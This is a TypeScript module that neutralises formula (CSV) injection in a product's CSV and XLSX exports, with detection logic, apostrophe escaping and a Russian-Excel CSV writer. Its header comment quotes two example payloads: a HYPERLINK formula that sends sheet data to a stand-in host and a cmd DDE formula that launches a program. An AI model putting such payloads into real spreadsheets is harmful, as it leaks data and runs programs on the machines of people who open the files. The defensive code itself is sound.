/**
 * Formula injection (OWASP «CSV Injection», CWE-1236, ASVS 5.0 V1.2.10): a spreadsheet reads a text cell that starts
 * with `=`, `+`, `-` or `@` as a formula — `=HYPERLINK("http://x.example/?d="&A1)` sends the sheet away,
 * `=cmd|'/c calc'!A1` asks to run a program. OWASP's list adds TAB and CR, ASVS's NUL; LF is added here beside CR.
 * Every CSV and XLSX the product writes takes its text through this module (CSV: `toCsv`; XLSX: `workbookBuffer` in
 * server/services/spreadsheet.ts, which asks `isFormulaLike`).
 *
 * What is neutralised:
 * - a text that starts with one of those characters, unless it is a plain number (`-5`, `-2,5`, `+3`): a spreadsheet
 *   reads that as the same number and there is nothing to evaluate, so it stays as written;
 * - in CSV by a leading apostrophe `'` (OWASP's advice): the text is then read as text; Excel and LibreOffice show the
 *   apostrophe as a character of the cell — the visible price of a value such as `'+7 912 000-00-00` or `'-2+3`;
 * - in XLSX the text is a string cell (a shared string: never evaluated on opening, a formula lives only in `<f>`),
 *   and one that `isFormulaLike` is also given the Text number format `@`, so that editing the cell (F2, Enter) keeps
 *   it text — the value stays exact, with no apostrophe, and an XLSX template imported back reads the same text.
 *
 * A phone number `+7 912 000-00-00` is not a plain number: raw, a spreadsheet may take it for arithmetic
 * (`+7-912-000-00-00` is -905), so it gets the apostrophe in CSV (and `@` in XLSX) and stays readable as written;
 * numbers the product exports (hours, marks, counts) are number values and are written as numbers.
 */

/** The first characters that make a spreadsheet evaluate a cell (OWASP, ASVS 5.0 V1.2.10, plus LF). */
export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000'];

/** A number as a spreadsheet reads it from text: optional sign, digits, one decimal point or comma. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)$/;

/**
 * True when a spreadsheet opening this text as a cell would evaluate it: its first character is a formula trigger
 * (FORMULA_TRIGGERS) and it is not a plain number (`-5`, `-2,5` — read as the number it shows).
 */
export function isFormulaLike(text: string): boolean {
  return text.length > 0 && FORMULA_TRIGGERS.includes(text[0]!) && !PLAIN_NUMBER.test(text);
}

/** The text a CSV field carries: a formula-like text (isFormulaLike) with a leading apostrophe, any other as it is. */
export function csvSafeText(text: string): string {
  return isFormulaLike(text) ? `'${text}` : text;
}

/** A value of a CSV row: text, a number (written as a number), or nothing (an empty field). */
export type CsvValue = string | number | null | undefined;

/**
 * One CSV field: a number in Russian notation (decimal comma: the files are for Russian Excel), a text made safe
 * (csvSafeText) and quoted by RFC 4180 §2.6–2.7 when it holds a `;`, a `,` (so that Excel with a comma as its
 * separator does not split it either), a quote (doubled), a TAB or a line break.
 */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  const text =
    typeof value === 'number' ? (Number.isFinite(value) ? String(value).replace('.', ',') : '') : csvSafeText(value);
  return /[;,"\t\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * THE CSV writer of every export: rows of values → semicolon-separated text with a UTF-8 BOM and CRLF line ends,
 * what Russian Excel opens correctly by a double click; every field through `csvField`.
 */
export function toCsv(rows: readonly (readonly CsvValue[])[]): string {
  return '\uFEFF' + rows.map((row) => row.map(csvField).join(';')).join('\r\n') + '\r\n';
}
